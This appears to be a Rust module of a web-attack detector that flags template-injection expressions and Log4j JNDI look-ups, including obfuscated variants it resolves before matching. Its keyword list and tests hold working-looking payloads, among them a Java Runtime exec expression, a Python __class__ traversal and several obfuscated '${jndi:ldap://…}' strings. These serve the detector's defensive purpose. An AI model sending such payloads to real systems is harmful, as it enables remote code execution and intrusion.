//! Expressions that a template engine, an expression language or a logger evaluates: `{{7*7}}`, `${jndi:…}`,
//! `%{(#a=@…)}`, `<%= … %>`.
//!
//! Delimiters alone mean little: advertisers' macros and translation strings have them too. What counts is an
//! inside that computes, calls or reaches for a runtime. Look-ups of Log4j are resolved as Log4j would
//! (`${lower:J}`, `${::-j}`, `${env:X:-j}`), however nested, before the word `jndi` is looked for.

use std::ops::{ControlFlow, Range};
use std::sync::LazyLock;

use memchr::{memchr, memchr_iter, memchr3_iter, memmem};

use super::finding::{Finding, Findings, Ground};
use super::marks::{Marks, places};
use super::prose;
use super::target::Part;
use super::words::Words;
use crate::request::AttackClass::{JavaInjection, Ssti};

/// Expressions of one part that are read in full, and most bytes of one; of those behind them the beginning is read:
/// padding hides nothing, and the work stays linear.
const LONG_EXPRESSIONS: usize = 32;
const MAX_EXPRESSION: usize = 1024;
const SHORT_EXPRESSION: usize = 48;

/// Words inside an expression that reach for the engine or the runtime under it.
const RUNTIME: &[&str] = &[
    "class",
    "runtime",
    "config",
    "request",
    "self",
    "exec",
    "system",
    "process",
    "import",
    "constructor",
    "freemarker",
    "getclass",
    "forname",
    "__",
    "lipsum",
    "cycler",
    "joiner",
    "namespace",
    "popen",
    "memberaccess",
    "ognl",
    "groovy",
    "python",
    "async",
    "velocity",
    "application",
    "applicationscope",
    "t(java",
    "getenv",
    "environment",
    "passthru",
    "print_r",
    "phpinfo",
    "include(",
    "file.open",
    "dir.entries",
    "_self",
    "registerundefinedfiltercallback",
    "debug",
    "sourceforge",
    "objectconstructor",
    "@java",
    "new java",
    "systemproperties",
    "hostname",
    "dump(",
    "facescontext",
    "session.",
    "servlet",
];

/// Judges one part.
pub(super) fn judge(part: &Part<'_>, found: &mut Findings) {
    if part.marks.any(Marks::AT) && part.marks.any(Marks::PAREN) {
        judge_razor(part, found);
    }
    if !part.marks.any(Marks::BRACE.and(Marks::ANGLE).and(Marks::BRACKET)) {
        return;
    }
    judge_lookups(part, found);
    let mut runtime = Runtime::default();
    let (mut telling, mut brace) = (0, 0);
    let mut read = 0;
    for at in places(part.lower, Marks::BRACE.and(Marks::ANGLE).and(Marks::BRACKET)) {
        let Some((start, open, close)) = delimiter(part.lower, at) else { continue };
        read += 1;
        let longest = if read <= LONG_EXPRESSIONS { MAX_EXPRESSION } else { SHORT_EXPRESSION };
        let from = start + open.len();
        let inside = &part.lower[from..(from + longest).min(part.lower.len())];
        let end = match close {
            b"}" => {
                // Expressions without a brace between them overlap: it is looked for once.
                if brace < from {
                    brace = memchr(b'}', &part.lower[from..]).map_or(part.lower.len(), |at| from + at);
                }
                Some(brace - from).filter(|end| *end < inside.len())
            }
            _ if part.pairs.may_hold(close) => memmem::find(inside, close),
            _ => None,
        };
        let inside = &inside[..end.unwrap_or(inside.len())];
        // Most of what braces hold has nothing that computes, calls, applies or leads deeper; looked for once.
        if telling < from {
            telling = part.lower[from..].iter().position(tells).map_or(part.lower.len(), |at| from + at);
        }
        // What is left open says something only where it reaches or states.
        let open_ended = end.is_none() && !inside.starts_with(b"t(");
        let statement = matches!(open, b"<%" | b"{%");
        let reaches = runtime.reached(part.lower, from..from + inside.len());
        if (telling >= from + inside.len() || open_ended) && !reaches && !statement {
            continue;
        }
        judge_inside(part, open, start, inside, (end.is_some(), reaches), found);
    }
}

/// Bytes of which an expression that says something has one: operators of [`computes`], calls, filters, names of names.
fn tells(byte: &u8) -> bool {
    matches!(byte, b'*' | b'+' | b'~' | b'-' | b'(' | b'|' | b'.')
}

/// Where [`RUNTIME`]'s words stand in one part, looked for once however many expressions overlap.
#[derive(Default)]
struct Runtime(Option<Vec<(usize, usize)>>);

impl Runtime {
    /// Whether one of the words stands wholly in `within`.
    fn reached(&mut self, text: &[u8], within: Range<usize>) -> bool {
        static WORDS: LazyLock<Words> = LazyLock::new(|| Words::new(RUNTIME));
        let found = self.0.get_or_insert_with(|| {
            let mut found = Vec::new();
            WORDS.walk(text, |hit| {
                found.push((hit.start, hit.end));
                ControlFlow::Continue(())
            });
            found.sort_unstable();
            // Of each and all behind it, where the first ends.
            let mut first_end = usize::MAX;
            for (_, end) in found.iter_mut().rev() {
                first_end = first_end.min(*end);
                *end = first_end;
            }
            found
        });
        found.get(found.partition_point(|(start, _)| *start < within.start)).is_some_and(|(_, end)| *end <= within.end)
    }
}

/// `@(7*7)`: Razor's expression in parentheses.
fn judge_razor(part: &Part<'_>, found: &mut Findings) {
    for at in part.find_all(b"@(").take(8) {
        let inside = part.lower[at + 2..].split(|byte| *byte == b')').next().unwrap_or_default();
        let starts = at == 0 || !part.lower[at - 1].is_ascii_alphanumeric();
        if starts && computes(&inside[..inside.len().min(64)]) {
            let span = part.offset + at..part.offset + at + 2 + inside.len();
            found.add(Ssti, 55, span, "contains an expression for a template engine to evaluate");
        }
    }
}

/// The delimiter of an engine in use around the bracket at `at`: where it begins, how it opens, how it closes.
fn delimiter(text: &[u8], at: usize) -> Option<(usize, &[u8], &'static [u8])> {
    let before = at.checked_sub(1).map(|before| text[before]);
    let after = text.get(at + 1).copied();
    let whole = |start: usize, end: usize, close: &'static [u8]| Some((start, &text[start..end], close));
    match (text[at], before, after) {
        (b'<', _, Some(b'%')) => whole(at, at + 2, b"%>"),
        (b'[', _, Some(b'=' | b'%')) if text[at..].iter().take(24).any(|byte| *byte == b'*') => whole(at, at + 2, b"]"),
        (b'[', _, Some(b'[')) => whole(at, at + 2, b"]]"),
        (b'{', Some(b'$' | b'#' | b'%' | b'*' | b'~' | b'@'), _) => whole(at - 1, at + 1, b"}"),
        (b'{', _, Some(b'{')) => whole(at, at + 2, b"}}"),
        (b'{', _, Some(b'%')) => whole(at, at + 2, b"%}"),
        (b'{', _, Some(b'!')) => whole(at, at + 2, b"!}"),
        (b'{', _, Some(b'#' | b'@')) => whole(at, at + 2, b"}"),
        // One brace is Smarty's, Latte's and Go's of old; a product of two numbers in it is a probe's.
        (b'{', _, Some(digit)) if digit.is_ascii_digit() && is_product(&text[at + 1..]) => whole(at, at + 1, b"}"),
        _ => None,
    }
}

/// `7*7}`: nothing but digits, a star and digits up to the brace.
fn is_product(text: &[u8]) -> bool {
    let digits = |text: &[u8]| text.iter().take(12).take_while(|byte| byte.is_ascii_digit()).count();
    let first = digits(text);
    let Some(rest) = text.get(first..).and_then(|rest| rest.strip_prefix(b"*")) else { return false };
    let second = digits(rest);
    first > 0 && second > 0 && rest.get(second) == Some(&b'}')
}

/// `a.b.c.0.d`: a way through four objects or more, which no macro of an advertiser or translator takes.
fn is_deep(inside: &[u8]) -> bool {
    let name = inside.trim_ascii();
    name.len() <= 128
        && name.split(|byte| *byte == b'.').count() >= 5
        && name.iter().all(|byte| byte.is_ascii_alphanumeric() || matches!(byte, b'.' | b'_'))
}

/// `'a'|upper`, `constant('X')`, `len("a")`: what an engine shall do to a value that stands there.
fn applies(inside: &[u8], called: bool) -> bool {
    let inside = inside.trim_ascii();
    let quoted = matches!(inside.first(), Some(b'\'' | b'"' | b'['));
    let filter = quoted && memchr(b'|', inside).is_some();
    let argument = memchr(b'(', inside).and_then(|open| inside.get(open + 1));
    filter || called && matches!(argument, Some(b'\'' | b'"'))
}

fn judge_inside(
    part: &Part<'_>,
    open: &[u8],
    at: usize,
    inside: &[u8],
    (closed, reaches): (bool, bool),
    found: &mut Findings,
) {
    let span = part.offset + at..part.offset + at + open.len() + inside.len();
    let reaches = reaches || inside.starts_with(b"t(");
    let calls = calls_something(inside);
    let engine = matches!(open, b"<%" | b"{%");
    let statement = engine && STATEMENTS.iter().any(|word| inside.trim_ascii_start().starts_with(word));
    let weight = match (computes(inside), reaches, calls) {
        (true, ..) if closed => 60,
        (_, true, true) => 70,
        (_, true, false) => 50,
        // "{% if user %} in a tutorial".
        _ if statement
            && prose::is_free_text(part.name)
            && prose::is_idle(inside.strip_prefix(b"=").unwrap_or(inside)) =>
        {
            30
        }
        _ if statement && prose::goes_on(part.lower.get(at + open.len() + inside.len() + 2..).unwrap_or_default()) => {
            30
        }
        _ if statement => 55,
        _ if closed && is_deep(inside) => 50,
        // A value written out and a filter over it, or a function called with one.
        (_, false, called) if closed && applies(inside, called) => 50,
        (_, false, true) if closed => 40,
        _ if open == b"<%" => 45,
        _ => 0,
    };
    if weight > 0 {
        found.add(Ssti, weight, span, "contains an expression for a template engine to evaluate");
    }
}

/// Beginnings of template statements and scriptlets.
const STATEMENTS: &[&[u8]] = &[
    b"if ",
    b"for ",
    b"set ",
    b"import ",
    b"include ",
    b"extends ",
    b"macro ",
    b"block ",
    b"debug",
    b"=",
    b"@",
    b"raw",
    b"eval",
    b"response",
    b"out",
    b"system",
    b"execute",
    b"request",
    b"server",
];

/// A number, an operator, a number: what probes send to see the product come back.
fn computes(inside: &[u8]) -> bool {
    let operand = |byte: &u8| byte.is_ascii_digit() || matches!(byte, b'\'' | b'"');
    let operands = |at: usize| {
        let before = inside[..at].trim_ascii_end();
        let after = inside[at + 1..].trim_ascii_start();
        before.last().is_some_and(operand)
            && after.first().is_some_and(operand)
            && before.iter().rev().take(24).take_while(|byte| operand(byte)).count() < 24
    };
    // A difference may be a date, unless nothing else is there.
    let lone = inside.len() < 16 && inside.iter().all(|byte| byte.is_ascii_digit() || matches!(byte, b'-' | b' '));
    // `{{12|add:30}}`: Django's sum.
    let sum = memmem::find(inside, b"|add:").is_some_and(|at| {
        let before = at.checked_sub(1).is_some_and(|before| inside[before].is_ascii_digit());
        before && inside.get(at + 5).is_some_and(u8::is_ascii_digit)
    });
    sum || memchr3_iter(b'*', b'+', b'~', inside).take(16).any(operands)
        || lone && memchr_iter(b'-', inside).take(2).any(operands)
}

/// `name(`.
fn calls_something(inside: &[u8]) -> bool {
    memchr_iter(b'(', inside)
        .take(16)
        .any(|at| at > 0 && (inside[at - 1].is_ascii_alphanumeric() || inside[at - 1] == b'_'))
}

/// Log4j look-ups.
fn judge_lookups(part: &Part<'_>, found: &mut Findings) {
    let Some(first) = part.find(b"${") else { return };
    let span = part.offset + first..part.offset + (first + 96).min(part.lower.len());
    let text = &part.lower[first..(first + MAX_EXPRESSION * 4).min(part.lower.len())];
    // A look-up names its kind in front of a colon; a shop's `${price}` is none.
    if memchr(b':', text).is_none() {
        return;
    }
    // Resolving drops text and adds none: without its letters there is no look-up.
    let looks_up = memchr(b'j', text).is_some() && {
        let resolved = resolve(text);
        [&b"${jndi:"[..], b"$jndi:", b"{jndi:"].iter().any(|prefix| memmem::find(&resolved, prefix).is_some())
    };
    if looks_up {
        let reference = Some("CVE-2021-44228");
        let reason = "has a logger look up a name in a directory of the attacker's";
        found.put(Finding { ground: Ground::Class(JavaInjection), weight: 95, span: span.clone(), reason, reference });
    }
    let evasive = [
        &b"${lower:"[..],
        b"${upper:",
        b"${::-",
        b"${env:",
        b"${sys:",
        b"${ctx:",
        b"${date:",
        b"${java:",
        b"${main:",
        b"${bundle:",
        b"${script:",
        b"${dns:",
        b"${url:",
        b"${base64decoder:",
    ]
    .iter()
    .any(|prefix| part.pairs.may_hold(prefix) && memmem::find(text, prefix).is_some());
    if evasive {
        found.add(JavaInjection, 60, span, "contains look-ups of a Java logger");
    }
}

/// Open braces that are remembered, the innermost ones. Each is searched when it closes: without a bound the work would grow
/// with the square of the text.
const MAX_OPEN: usize = 64;

/// Resolves look-ups from the inside out, in one pass with a stack of open braces. What cannot be resolved stays as
/// written.
fn resolve(text: &[u8]) -> Vec<u8> {
    let mut out: Vec<u8> = Vec::with_capacity(text.len());
    let mut opened: Vec<usize> = Vec::with_capacity(MAX_OPEN);
    let mut at = 0;
    while let Some(&byte) = text.get(at) {
        match byte {
            b'$' if text.get(at + 1) == Some(&b'{') => {
                if opened.len() == MAX_OPEN {
                    opened.remove(0);
                }
                opened.push(out.len());
                out.extend_from_slice(b"${");
                at += 2;
                continue;
            }
            b'}' if !opened.is_empty() => {
                let start = opened.pop().unwrap_or_default();
                close(&mut out, start);
            }
            _ => out.push(byte),
        }
        at += 1;
    }
    out
}

/// Replaces `${…` at `start` by its value.
fn close(out: &mut Vec<u8>, start: usize) {
    let inside = &out[start + 2..];
    let value = if let Some(rest) = inside.strip_prefix(b"lower:").or_else(|| inside.strip_prefix(b"upper:")) {
        rest.to_vec()
    } else if let Some(quoted) = inside.strip_prefix(b"date:") {
        quoted.iter().copied().filter(|byte| *byte != b'\'').collect()
    } else if let Some(default) = memmem::rfind(inside, b":-") {
        // The keyed value is unknown here and as a rule empty there: the default is what comes out.
        inside[default + 2..].to_vec()
    } else {
        out.push(b'}');
        return;
    };
    out.truncate(start);
    out.extend_from_slice(&value);
}

#[cfg(test)]
mod tests {
    use super::super::decode::Tricks;
    use super::super::marks::marks_of;
    use super::super::target::Place;
    use super::*;
    use crate::request::AttackClass;

    fn verdict(text: &str) -> Option<AttackClass> {
        let lower = text.to_ascii_lowercase();
        let part = Part {
            place: Place::Value,
            text: text.as_bytes(),
            lower: lower.as_bytes(),
            offset: 0,
            name: b"x",
            path: b"/",
            marks: marks_of(text.as_bytes()),
            pairs: &super::super::pairs::Pairs::UNKNOWN,
            tricks: Tricks::default(),
            after_double_ampersand: false,
        };
        let mut found = Findings::default();
        judge(&part, &mut found);
        found.sum().filter(|(_, score)| *score >= 50).map(|(class, _)| class)
    }

    #[test]
    fn an_inside_that_computes_is_an_expression() {
        let check = |text: &str, expected: Option<AttackClass>| assert_eq!(verdict(text), expected, "{text}");
        check("{{7*7}}", Some(Ssti));
        check("${191*7}", Some(Ssti));
        check("#{'a'*3}", Some(Ssti));
        check("{{config.items()}}", Some(Ssti));
        check("${T(java.lang.Runtime).getRuntime().exec('id')}", Some(Ssti));
        check("{% for x in ().__class__.__base__ %}", Some(Ssti));
        check("<%= 7 %>", Some(Ssti));
        check("#{user.id}", None);
        check("{{name}}", None);
        check("${amount}", None);
        check("rate(x{job=\"a\"}[5m])", None);
        check("{\"v\":1}", None);
        check("[[page]]", None);
    }

    #[test]
    fn look_ups_are_resolved_before_they_are_read() {
        let check = |text: &str, expected: Option<AttackClass>| assert_eq!(verdict(text), expected, "{text}");
        check("${jndi:ldap://203.0.113.9/a}", Some(JavaInjection));
        check("${${lower:J}ndi:${lower:rmi}://h/a}", Some(JavaInjection));
        check("${${::-j}${::-n}${::-d}${::-i}:dns://h}", Some(JavaInjection));
        check("${${env:NOPE:-j}ndi:ldap://h/a}", Some(JavaInjection));
        check("${${date:'j'}ndi:ldap://h/a}", Some(JavaInjection));
        assert_eq!(resolve(b"${${lower:${upper:j}}ndi:x}"), b"${jndi:x}");
        assert_eq!(resolve(b"}${a}${"), b"}${a}${");
    }
}
